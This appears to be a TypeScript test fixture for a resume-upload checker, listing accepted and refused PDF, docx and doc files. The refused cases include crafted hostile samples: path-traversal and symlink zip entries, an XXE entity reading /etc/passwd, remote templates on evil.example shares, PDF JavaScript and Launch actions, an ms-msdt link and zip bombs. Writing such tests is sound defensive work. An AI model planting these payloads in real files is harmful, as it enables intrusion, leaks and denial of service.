@@ -1,0 +1,409 @@
+import type { ResumeNote } from '../check-resume.ts';
+import { type ResumeProblem, resumeLimits } from '../resume-rules.ts';
+import { toCompoundFile } from './compound.ts';
+import {
+  toContentTypes,
+  toDoc,
+  toDocx,
+  toDocxWith,
+  toPackedObjects,
+  toPdf,
+  toRelations,
+  toWordStream,
+} from './documents.ts';
+import { toZip } from './zip.ts';
+
+type Sound = [what: string, name: string, bytes: Buffer, notes?: ResumeNote[]];
+type Refused = [what: string, name: string, bytes: Buffer, problem: ResumeProblem];
+
+const html = '<html><script>alert(1)</script></html>';
+const settings = 'word/_rels/settings.xml.rels';
+const templateAt = (target: string) =>
+  toDocx([
+    {
+      name: settings,
+      content: toRelations([{ type: 'attachedTemplate', target, external: true }]),
+    },
+  ]);
+const linkTo = (target: string) => toDocxWith({ type: 'hyperlink', target, external: true });
+const withRelations = (content: Buffer | string) =>
+  toDocx([{ name: 'word/_rels/document.xml.rels', content }]);
+const padTo = (bytes: Buffer, size: number) =>
+  Buffer.concat([bytes, Buffer.alloc(size - bytes.length, ' ')]);
+// A comment makes a PDF of any size; the numbers that grow with it are taken off again.
+const pdfOf = (size: number) => {
+  const toPadded = (length: number) => toPdf({ extra: `%${' '.repeat(length)}\n` });
+  return toPadded(2 * size - toPadded(size).length);
+};
+
+/** Files that honest applicants send. */
+export const soundResumes: Sound[] = [
+  ['a PDF', 'omar-farid.pdf', toPdf()],
+  ['a PDF named in capitals', 'OMAR.PDF', toPdf()],
+  ['a PDF with an Arabic name', 'سيرة ذاتية.pdf', toPdf()],
+  ['a PDF named after a program', 'setup.exe.pdf', toPdf()],
+  ['a PDF after some white space', 'a.pdf', Buffer.concat([Buffer.from('\r\n\r\n'), toPdf()])],
+  [
+    'a PDF after a printer’s job header',
+    'a.pdf',
+    Buffer.concat([Buffer.from('\x1b%-12345X@PJL\r\n'), toPdf()]),
+  ],
+  ['a PDF with white space at the end', 'a.pdf', padTo(toPdf(), toPdf().length + 900)],
+  ['a PDF as large as allowed', 'a.pdf', pdfOf(resumeLimits.bytes)],
+  ['a PDF whose text speaks of /JS', 'a.pdf', toPdf({ text: '/JS and /Launch, /Encrypt 5 0 R' })],
+  ['a PDF with packed objects', 'a.pdf', toPdf({ extra: toPackedObjects('<< /Title (CV) >>') })],
+  ['a PDF that opens at a page', 'a.pdf', toPdf({ extra: '/OpenAction [3 0 R /Fit]\n' })],
+  [
+    'a PDF with its data attached',
+    'a.pdf',
+    toPdf({ extra: '<< /Names << /EmbeddedFiles 9 0 R >> >>\n' }),
+    ['attachments'],
+  ],
+  ['a PDF form', 'a.pdf', toPdf({ extra: '<< /XFA 9 0 R >>\n' }), ['form']],
+  ['a docx', 'omar-farid.docx', toDocx()],
+  ['a docx whose name has dots', 'omar.v2.final.docx', toDocx()],
+  [
+    'a docx with stored parts and a folder',
+    'a.docx',
+    toDocx([
+      { name: 'word/media/', content: '', stored: true },
+      { name: 'word/media/photo.jpeg', content: Buffer.from('ffd8ffe0', 'hex'), stored: true },
+    ]),
+  ],
+  ['a docx with a link', 'a.docx', linkTo('https://nabra.example/?a=1&amp;b=2')],
+  ['a docx with a mail link', 'a.docx', linkTo('mailto:omar@example.com')],
+  ['a docx with a telephone link', 'a.docx', linkTo('tel:+201001234567')],
+  ['a docx with a link without a scheme', 'a.docx', linkTo('www.linkedin.com/in/omar')],
+  [
+    'a docx made from a template of its author',
+    'a.docx',
+    templateAt('file:///C:\\Users\\omar\\Templates\\Resume.dotx'),
+  ],
+  [
+    'a docx made from a template on a Mac',
+    'a.docx',
+    templateAt('file://localhost/Users/omar/Resume.dotx'),
+  ],
+  ['a doc', 'omar-farid.doc', toDoc()],
+  ['a doc with an empty pool of objects', 'omar-farid.doc', toDoc('ObjectPool')],
+];
+
+/** Files that are refused, and why. */
+export const refusedResumes: Refused[] = [
+  ['nothing', 'a.pdf', Buffer.alloc(0), 'empty'],
+  ['one byte too many', 'a.pdf', pdfOf(resumeLimits.bytes + 1), 'tooLarge'],
+  ['a text file', 'a.txt', Buffer.from('CV'), 'type'],
+  ['no ending', 'resume', toPdf(), 'type'],
+  ['only an ending', 'pdf', toPdf(), 'type'],
+  ['a web page', 'a.html', toPdf(), 'type'],
+  ['a program named like a PDF', 'a.pdf.exe', toPdf(), 'type'],
+  ['a program named backwards', 'resume\u202Efdp.exe', toPdf(), 'type'],
+  ['a name cut by a NUL', 'a.exe\0.pdf\0.exe', toPdf(), 'type'],
+  ['a document with macros by name', 'a.docm', toDocx(), 'type'],
+  ['a rich text file', 'a.rtf', Buffer.from('{\\rtf1}'), 'type'],
+
+  ['a docx named pdf', 'a.pdf', toDocx(), 'mismatch'],
+  ['a pdf named docx', 'a.docx', toPdf(), 'mismatch'],
+  ['a pdf named doc', 'a.doc', toPdf(), 'mismatch'],
+  ['a docx named doc', 'a.doc', toDocx(), 'mismatch'],
+  ['a doc named docx', 'a.docx', toDoc(), 'mismatch'],
+  ['rich text named doc', 'a.doc', Buffer.from('{\\rtf1 CV}'), 'mismatch'],
+  ['a web page named doc', 'a.doc', Buffer.from(html), 'mismatch'],
+  ['a web page named pdf', 'a.pdf', Buffer.from(html), 'mismatch'],
+  ['a picture named pdf', 'a.pdf', Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), 'mismatch'],
+  [
+    'the virus test file',
+    'a.pdf',
+    Buffer.from('X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS'),
+    'mismatch',
+  ],
+  [
+    'a web page that is also a PDF',
+    'a.pdf',
+    Buffer.concat([Buffer.from(html), toPdf()]),
+    'mismatch',
+  ],
+  [
+    'a program that is also a PDF',
+    'a.pdf',
+    Buffer.concat([Buffer.from('MZ\x90\0'), toPdf()]),
+    'mismatch',
+  ],
+  [
+    'a picture that is also a PDF',
+    'a.pdf',
+    Buffer.concat([Buffer.from('GIF89a'), toPdf()]),
+    'mismatch',
+  ],
+  ['a ZIP behind a PDF', 'a.pdf', Buffer.concat([toPdf(), toDocx()]), 'mismatch'],
+  [
+    'a PDF that begins too late',
+    'a.pdf',
+    Buffer.concat([Buffer.alloc(1030, ' '), toPdf()]),
+    'mismatch',
+  ],
+  [
+    'a PDF inside a docx',
+    'a.docx',
+    toZip([
+      { name: 'cv.pdf', content: toPdf(), stored: true },
+      { name: '[Content_Types].xml', content: toContentTypes() },
+      { name: 'word/document.xml', content: '<w/>' },
+    ]),
+    'mismatch',
+  ],
+  [
+    'a docx behind something else',
+    'a.docx',
+    Buffer.concat([Buffer.from('#!/bin/sh\n'), toDocx()]),
+    'mismatch',
+  ],
+  ['a ZIP of something else', 'a.docx', toZip([{ name: 'a.txt', content: 'a' }]), 'mismatch'],
+  [
+    'a workbook named docx',
+    'a.docx',
+    toDocx([
+      { name: '[Content_Types].xml', content: toContentTypes('spreadsheetml.sheet.main+xml') },
+    ]),
+    'mismatch',
+  ],
+  [
+    'a compound file without Word',
+    'a.doc',
+    toCompoundFile([{ name: 'Workbook', content: toWordStream() }]),
+    'mismatch',
+  ],
+
+  ['a PDF without an end', 'a.pdf', toPdf().subarray(0, -10), 'damaged'],
+  ['a PDF cut in half', 'a.pdf', toPdf().subarray(0, 300), 'damaged'],
+  ['a docx cut in half', 'a.docx', toDocx().subarray(0, 400), 'damaged'],
+  ['a docx without its last byte', 'a.docx', toDocx().subarray(0, -1), 'damaged'],
+  ['a doc cut in half', 'a.doc', toDoc().subarray(0, 5000), 'damaged'],
+  ['the head of a doc', 'a.doc', toDoc().subarray(0, 100), 'damaged'],
+  [
+    'a docx with a wrong checksum',
+    'a.docx',
+    toDocx([{ name: 'word/styles.xml', content: '<w/>', claimedCrc: 1 }]),
+    'damaged',
+  ],
+  [
+    'a docx with two parts of one name',
+    'a.docx',
+    toZip([
+      { name: '[Content_Types].xml', content: toContentTypes() },
+      { name: 'word/document.xml', content: '<w/>' },
+      { name: 'Word/Document.xml', content: '<x/>' },
+    ]),
+    'damaged',
+  ],
+  [
+    'a docx whose part has two names',
+    'a.docx',
+    toDocx([{ name: 'word/a.xml', localName: 'word/b.xml', content: '<w/>' }]),
+    'damaged',
+  ],
+  ['a docx that climbs', 'a.docx', toDocx([{ name: '../../etc/x', content: 'x' }]), 'damaged'],
+  ['a docx with a root', 'a.docx', toDocx([{ name: '/etc/passwd', content: 'x' }]), 'damaged'],
+  [
+    'a docx with a symbolic link',
+    'a.docx',
+    toDocx([{ name: 'word/link', content: '/etc/passwd', mode: 0o120777 }]),
+    'damaged',
+  ],
+  [
+    'relations with a document type',
+    'a.docx',
+    withRelations('<!DOCTYPE r [<!ENTITY x "file:///etc/passwd">]><Relationships/>'),
+    'damaged',
+  ],
+  [
+    'relations with a comment',
+    'a.docx',
+    withRelations('<Relationships><!-- " --></Relationships>'),
+    'damaged',
+  ],
+  [
+    'relations in another encoding',
+    'a.docx',
+    withRelations(Buffer.from(`\uFEFF${toRelations([])}`, 'utf16le')),
+    'damaged',
+  ],
+
+  ['a PDF with a password', 'a.pdf', toPdf({ trailer: '/Encrypt 9 0 R ' }), 'encrypted'],
+  ['the same, spelled otherwise', 'a.pdf', toPdf({ trailer: '/#45ncrypt 9 0 R ' }), 'encrypted'],
+  [
+    'a docx with a password',
+    'a.docx',
+    toCompoundFile([
+      { name: 'EncryptionInfo', content: Buffer.alloc(4096) },
+      { name: 'EncryptedPackage', content: Buffer.alloc(4096) },
+    ]),
+    'encrypted',
+  ],
+  [
+    'the same, named doc',
+    'a.doc',
+    toCompoundFile([{ name: 'EncryptedPackage', content: Buffer.alloc(4096) }]),
+    'encrypted',
+  ],
+  [
+    'a docx with an encrypted part',
+    'a.docx',
+    toDocx([{ name: 'word/styles.xml', content: 'x', flags: 1 }]),
+    'encrypted',
+  ],
+  [
+    'a doc with a password',
+    'a.doc',
+    toCompoundFile([{ name: 'WordDocument', content: toWordStream({ encrypted: true }) }]),
+    'encrypted',
+  ],
+
+  [
+    'a docx with a macro project',
+    'a.docx',
+    toDocx([{ name: 'word/vbaProject.bin', content: 'x' }]),
+    'macros',
+  ],
+  [
+    'a docm renamed',
+    'a.docx',
+    toDocx([
+      {
+        name: '[Content_Types].xml',
+        content: toContentTypes('ms-word.document.macroEnabled.main+xml'),
+      },
+    ]),
+    'macros',
+  ],
+  [
+    'a macro project under another name',
+    'a.docx',
+    toDocxWith({ type: 'vbaProject', target: 'thumbnail.jpeg' }),
+    'macros',
+  ],
+  ['a doc with macros', 'a.doc', toDoc('Macros', 'VBA', '_VBA_PROJECT'), 'macros'],
+  ['a doc with a hidden macro project', 'a.doc', toDoc('_VBA_PROJECT_CUR'), 'macros'],
+
+  ['a PDF with a script', 'a.pdf', toPdf({ extra: '<< /S /JavaScript /JS (x) >>\n' }), 'active'],
+  [
+    'a PDF with a script, spelled otherwise',
+    'a.pdf',
+    toPdf({ extra: '<< /J#53 (x) >>\n' }),
+    'active',
+  ],
+  [
+    'a PDF with a packed script',
+    'a.pdf',
+    toPdf({ extra: toPackedObjects('<< /S /JavaScript /JS (x) >>') }),
+    'active',
+  ],
+  [
+    'a PDF that starts a program',
+    'a.pdf',
+    toPdf({ extra: '<< /S /Launch /F (cmd) >>\n' }),
+    'active',
+  ],
+  [
+    'a PDF that calls home when opened',
+    'a.pdf',
+    toPdf({ extra: '/OpenAction << /S /URI /URI (http://x.example) >>\n' }),
+    'active',
+  ],
+  ['a template on the web', 'a.docx', templateAt('https://evil.example/t.dotm'), 'active'],
+  ['a template on a share', 'a.docx', templateAt('\\\\evil.example\\share\\t.dotx'), 'active'],
+  [
+    'a template on a share as a file',
+    'a.docx',
+    templateAt('file://evil.example/s/t.dotx'),
+    'active',
+  ],
+  [
+    'a template on a share, four slashes',
+    'a.docx',
+    templateAt('file:////evil.example/t.dotx'),
+    'active',
+  ],
+  [
+    'a template spelled with references',
+    'a.docx',
+    templateAt('&#104;ttp://evil.example/t'),
+    'active',
+  ],
+  [
+    'a picture on the web',
+    'a.docx',
+    toDocxWith({ type: 'image', target: 'http://x.example/p.png', external: true }),
+    'active',
+  ],
+  ['a link to a share', 'a.docx', linkTo('\\\\evil.example\\share'), 'active'],
+  ['a link to a file', 'a.docx', linkTo('file:///c:/windows/system32/calc.exe'), 'active'],
+  ['a link to a program', 'a.docx', linkTo('ms-msdt:/id'), 'active'],
+  ['a link with a hidden scheme', 'a.docx', linkTo('java&#9;script:alert(1)'), 'active'],
+  [
+    'an external target under single quotes',
+    'a.docx',
+    withRelations(
+      "<r:Relationships><r:Relationship Type='x/oleObject' Target = 'a>b' TargetMode='External'></r:Relationship></r:Relationships>",
+    ),
+    'active',
+  ],
+  ['a foreign text', 'a.docx', toDocxWith({ type: 'aFChunk', target: 'a.html' }), 'active'],
+  ['an object', 'a.docx', toDocxWith({ type: 'oleObject', target: 'embeddings/o.bin' }), 'active'],
+  [
+    'an object without a relation',
+    'a.docx',
+    toDocx([{ name: 'word/embeddings/o.bin', content: 'x' }]),
+    'active',
+  ],
+  [
+    'a document in a document',
+    'a.docx',
+    toDocx([{ name: 'word/media/x.docx', content: 'x' }]),
+    'active',
+  ],
+  [
+    'an archive named picture',
+    'a.docx',
+    toDocx([{ name: 'word/media/x.png', content: toDocx() }]),
+    'active',
+  ],
+  ['a wrapped file in a doc', 'a.doc', toDoc('\x01Ole10Native'), 'active'],
+
+  [
+    'a bomb',
+    'a.docx',
+    toDocx([{ name: 'word/a.xml', content: Buffer.alloc(19_000_000) }]),
+    'oversize',
+  ],
+  [
+    'a huge part',
+    'a.docx',
+    toDocx([{ name: 'word/a.xml', content: 'x', claimedSize: 0x7fffffff }]),
+    'oversize',
+  ],
+  [
+    'a bomb in the tables',
+    'a.docx',
+    toDocx([{ name: 'word/document.xml', content: Buffer.alloc(300_000) }]),
+    'oversize',
+  ],
+  [
+    'thousands of parts',
+    'a.docx',
+    toDocx(Array.from({ length: 2000 }, (_, index) => ({ name: `word/${index}`, content: '' }))),
+    'oversize',
+  ],
+  [
+    'a part larger than it says',
+    'a.docx',
+    toDocx([{ name: 'word/a.xml', content: 'x'.repeat(5000), claimedSize: 10 }]),
+    'damaged',
+  ],
+  [
+    'a bomb of objects',
+    'a.pdf',
+    toPdf({ extra: toPackedObjects(' '.repeat(17 * 1024 * 1024)) }),
+    'oversize',
+  ],
+];
